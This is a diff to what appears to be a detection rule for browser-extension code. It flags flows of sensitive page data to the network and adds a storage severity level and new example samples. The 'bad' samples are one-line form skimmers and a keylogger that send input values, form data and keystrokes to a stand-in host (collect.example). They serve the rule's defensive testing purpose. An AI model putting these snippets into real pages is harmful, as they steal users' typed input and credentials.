@@ -11,6 +11,7 @@ const SEVERITY: Partial<Record<SourceKind, Severity>> = {
   'form-input': 'high',
   clipboard: 'high',
   'page-cookies': 'high',
+  'page-storage': 'high',
   'page-content': 'medium',
   screenshot: 'medium',
   geolocation: 'low',
@@ -45,6 +46,14 @@ export default defineRule({
   check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
   examples: {
     bad: [
+      sample({
+        content:
+          "setInterval(() => { let o = {}; document.querySelectorAll('input').forEach(i => o[i.name] = i.value); fetch('https://collect.example/f', {method: 'POST', body: JSON.stringify(o)}) }, 3000);",
+      }),
+      sample({
+        content:
+          "for (let i = 0; i < document.forms.length; i++) document.forms[i].addEventListener('submit', function () { fetch('https://collect.example/f', {method: 'POST', body: new FormData(this)}) });",
+      }),
       sample({
         content: 'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });',
       }),
@@ -107,6 +116,10 @@ export default defineRule({
       }),
     ],
     good: [
+      sample({
+        content:
+          "const own = document.createElement('form'); own.innerHTML = '<input name=note>'; own.onsubmit = () => { chrome.storage.local.set({ note: own.elements.note.value }); fetch('https://api.example/ping', { method: 'POST' }); };",
+      }),
       sample({
         files: {
           'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>',
